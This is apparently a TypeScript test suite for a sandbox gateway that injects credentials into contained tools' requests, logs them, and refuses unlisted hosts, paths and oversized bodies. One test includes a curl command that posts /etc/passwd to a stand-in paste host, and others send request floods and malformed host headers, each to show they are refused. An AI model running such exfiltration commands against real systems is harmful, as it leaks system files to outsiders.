import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import type { ServerResponse } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { approveRun, contained, startContained, workOf } from "./support/box.ts";
import {
  asUser,
  demoPack,
  type Gateway,
  Home,
  type Members,
  makeFolder,
  SECRET,
  until,
  within,
} from "./support/home.ts";
import { startProvider, type TestProvider } from "./support/provider.ts";

/** Tools as they are, in a box, against a provider on loopback: the real gateway, the real wrapper. */
let home: Home;
let gateway: Gateway;
let provider: TestProvider;
const skip = asUser;

before(async () => {
  if ("skip" in skip) return;
  provider = await startProvider();
  home = await new Home(makeFolder()).init();
  await home.addCredential("demo-token", provider.origin);
  await home.trustPack(
    "demo",
    demoPack(provider.origin).replace("  network: private\n", "  network: private\n  token_variables: [DEMO_TOKEN]\n"),
  );
  gateway = await home.up();
});
after(async () => {
  await gateway?.end("SIGTERM");
  await provider?.close();
});

test("curl in a box acts through the gateway, which adds the credential and records who asked", skip, async () => {
  const before = provider.received.length;
  const run = startContained(home, [
    "sh",
    "-c",
    `curl -sS -H "authorization: Bearer $DEMO_TOKEN" ${provider.origin}/v1/things/7; echo; echo "$DEMO_TOKEN"`,
  ]);
  const card = await approveRun(home, run);
  assert.match(card, /the box has no other network/);
  const { code, out, err } = await within(run.exited, 120_000, "it ends");
  assert.equal(code, 0, err);
  const [answer = "", token = ""] = out.split("\n");
  assert.deepEqual(JSON.parse(answer), { ok: true, url: "/v1/things/7" });
  assert.notEqual(token, SECRET);
  assert.equal(provider.received.length, before + 1);
  assert.equal(provider.received.at(-1)?.headers["authorization"], `Bearer ${SECRET}`);
  assert.match(err, /1 call: 1 success/);
  const [event] = await home.events("contained_request");
  assert.equal(event?.["action"], "demo.thing.get");
  assert.equal((event?.["process"] as Members | undefined)?.["executable"], "/usr/bin/curl");
});

test("what no action says is refused in words that the tool shows, and nothing is sent", skip, async () => {
  const before = provider.received.length;
  const script = `curl -sS -i ${provider.origin}/v1/secrets; echo; curl -sS -i https://paste.example/upload -d @/etc/passwd; echo; curl -sS -i http://198.51.100.7/x`;
  const { code, out, err } = await contained(home, script);
  assert.equal(code, 0, err);
  assert.deepEqual(
    out.match(/^HTTP\/1.1 .*$/gm)?.map((line) => line.trim()),
    [
      "HTTP/1.1 403 Refused by gw - path_not_in_packs",
      "HTTP/1.1 403 Refused by gw - origin_not_in_packs",
      "HTTP/1.1 403 Refused by gw - origin_not_in_packs",
    ],
  );
  assert.equal(provider.received.length, before);
});

test("of a flood of refusals each is in the log or in its number, those at the end of the run too", skip, async () => {
  const flood = `curl -sS -Z --parallel-max 60 -o /dev/null -H 'connection: upgrade' -H 'upgrade: websocket' "http://other.example/[1-300]"`;
  const { code, err } = await contained(home, flood);
  assert.equal(code, 0, err);
  assert.match(err, /300 calls: 0 success, 0 error, 300 denied/);
});

test("a tool that hangs up after its request was sent has sent it, and the outcome is on record", skip, async () => {
  const held: ServerResponse[] = [];
  provider.answer((_request, response) => void held.push(response));
  const script = `curl -sS -H 'content-type: application/json' -d '{"name":"kept"}' ${provider.origin}/v1/things & while [ ! -e sent ]; do sleep 0.1; done; kill $!; wait; touch left; while [ ! -e told ]; do sleep 0.1; done`;
  const run = startContained(home, ["sh", "-c", script]);
  await approveRun(home, run);
  await until("it is at the provider", () => held.length === 1);
  writeFileSync(join(workOf(home), "sent"), "");
  await until("the tool is gone", () => existsSync(join(workOf(home), "left")));
  held[0]?.writeHead(201, { "content-type": "application/json" }).end("{}");
  await until("its outcome is on record", async () =>
    (await home.events("action_finished")).some(
      ({ outcome, request }) =>
        outcome === "succeeded" && (request as Members)["normalized_operation"] === "POST /v1/things",
    ),
  );
  writeFileSync(join(workOf(home), "told"), "");
  const { err } = await within(run.exited, 120_000, "it ends");
  assert.match(err, /1 call: 1 success/);
});

test("a body of megabytes reaches the gateway whole; one beyond the limit is refused in words", skip, async () => {
  const script = `head -c 3000000 /dev/zero | tr '\\0' a > /tmp/large; (printf '{"name":"'; cat /tmp/large; printf '"}') > /tmp/body
curl -sS -i -H 'content-type: application/json' --data-binary @/tmp/body ${provider.origin}/v1/things | grep -a '^HTTP/1.1 [^1]'
head -c 9000000 /dev/zero > /tmp/huge; curl -sS -i --data-binary @/tmp/huge ${provider.origin}/v1/things | grep -a '^HTTP/1.1 [^1]'`;
  const before = provider.received.length;
  const { code, out, err } = await contained(home, script);
  assert.equal(code, 0, err);
  const [large = "", huge = ""] = out.split("\n").map((line) => line.trim());
  // The pack takes names of a bounded length: it was the gateway that looked at the whole of it.
  assert.match(large, /^HTTP\/1.1 403 Refused by gw - (?!body_too_large|box_request_refused)\w+$/);
  assert.equal(huge, "HTTP/1.1 403 Refused by gw - body_too_large");
  assert.equal(provider.received.length, before, "nothing was sent");
});

test(
  "a run that learns refuses as always, and leaves drafts that lint and that nobody trusts; the log gives the same",
  skip,
  async () => {
    const before = provider.received.length;
    const drafts = join(home.folder, "..", "drafts");
    const script = `for n in 1 2; do curl -sS -H 'content-type: application/json' -d "{\\"size\\":$n}" ${provider.origin}/v1/boxes; done
curl -sS "https://paste.example/items/17?deep=true"; curl -sS -H "authorization: Bearer mine" https://paste.example/own`;
    const { code, out, err } = await contained(home, script, { extra: ["--learn", drafts] });
    assert.equal(code, 0, err);
    assert.equal(out.split("gw: ").length - 1, 3 * 4, "each was refused in words");
    assert.equal(provider.received.length, before);
    assert.match(err, /None is trusted/);
    assert.deepEqual(readdirSync(drafts).sort(), ["at-127-0-0-1.yaml", "paste-example.yaml"]);
    const paste = readFileSync(join(drafts, "paste-example.yaml"), "utf8");
    assert.match(paste, /path: "\/items\/\{item_id\}"/);
    assert.equal(paste.includes("/own"), false, "what brought a credential of its own");
    for (const name of readdirSync(drafts))
      assert.equal((await home.run(["pack", "lint", join(drafts, name)])).code, 0);
    const run = String((await home.events("contained_request")).at(-1)?.["run_id"]);
    const suggested = await home.must(["pack", "suggest", "--run", run]);
    assert.ok(suggested.out.includes(paste.trim()), suggested.out);
    assert.equal((await home.run(["pack", "list"])).out.includes("paste-example"), false);
    const alone = await home.run(["run", "--learn", drafts, "--", "true"]);
    assert.equal(alone.code, 2, alone.err);
  },
);

test(
  "what a box sends or leaves behind does not keep a run that learns from its end, nor from its drafts",
  skip,
  async () => {
    const odd = ["http://shop.example/ -H host:999.1.1.1", "-k https://shop.example/ -H host:shop.example:99999"];
    const drafts = join(home.folder, "..", "odd-drafts");
    const asked = [...odd, "https://shop.example/things/7"].map((one) => `curl -sS -o /dev/null ${one}`).join("; ");
    const learned = await contained(home, `${asked}; exit 7`, { extra: ["--learn", drafts] });
    assert.equal(learned.code, 7, learned.err);
    assert.match(learned.err, /3 calls: 0 success, 0 error, 3 denied/);
    assert.deepEqual(readdirSync(drafts), ["shop-example.yaml"]);
    const run = String((await home.events("contained_request")).at(-1)?.["run_id"]);
    const suggested = await home.must(["pack", "suggest", "--run", run]);
    assert.ok(suggested.out.includes(readFileSync(join(drafts, "shop-example.yaml"), "utf8").trim()), suggested.out);
    const inside = join(workOf(home), "drafts");
    const gone = await contained(home, "curl -sS https://shop.example/; rmdir drafts; exit 7", {
      extra: ["--learn", inside],
    });
    assert.equal(gone.code, 7, gone.err);
    assert.match(
      gone.err,
      /not all drafts were written: .* no longer the same folder[\s\S]*1 call: 0 success, 0 error, 1 denied/,
    );
  },
);
